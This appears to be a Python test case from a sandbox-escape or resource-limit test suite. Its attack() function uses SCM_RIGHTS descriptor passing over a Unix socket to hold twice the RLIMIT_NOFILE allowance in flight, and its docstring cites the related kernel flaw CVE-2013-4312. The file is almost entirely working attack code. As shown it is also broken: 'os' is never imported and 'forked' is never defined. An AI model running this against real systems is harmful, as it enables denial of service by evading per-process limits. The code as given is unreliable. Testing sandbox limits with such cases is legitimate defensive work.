"""Have more files open than a process may.

Technique: descriptors that were sent through a socket and closed are open in no process, so RLIMIT_NOFILE does not count them.
    Sockets that are themselves under way hold further ones, in chains that the kernel has to search for garbage
    (before Linux 4.5 without any bound: CVE-2013-4312).
Success: one process holds twice the descriptors it may have, and all of them come out again.
Stopped by: rlimits
"""
import array
import socket

BATCH = 250


def attack():
    import resource

    allowed = resource.getrlimit(resource.RLIMIT_NOFILE)[0]
    here, there = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    here.setblocking(False)
    sent = 0
    while sent < 2 * allowed:
        files = [os.open("/dev/null", os.O_RDONLY) for _ in range(BATCH)]
        try:
            here.sendmsg([b"."], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", files))])
        finally:
            for file in files:
                os.close(file)
        sent += BATCH
    return f"{sent} descriptors are under way to {there.fileno()}, {allowed} may be open"


def twin():
    """Some descriptors to a child."""
    here, there = socket.socketpair()
    files = [os.open("/dev/null", os.O_RDONLY) for _ in range(50)]
    here.sendmsg([b"."], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", files))])

    def child():
        data, ancillary, _, _ = there.recvmsg(1, socket.CMSG_SPACE(4 * 50))
        return str(len(ancillary[0][2]) // 4)

    assert forked(child) == "50"
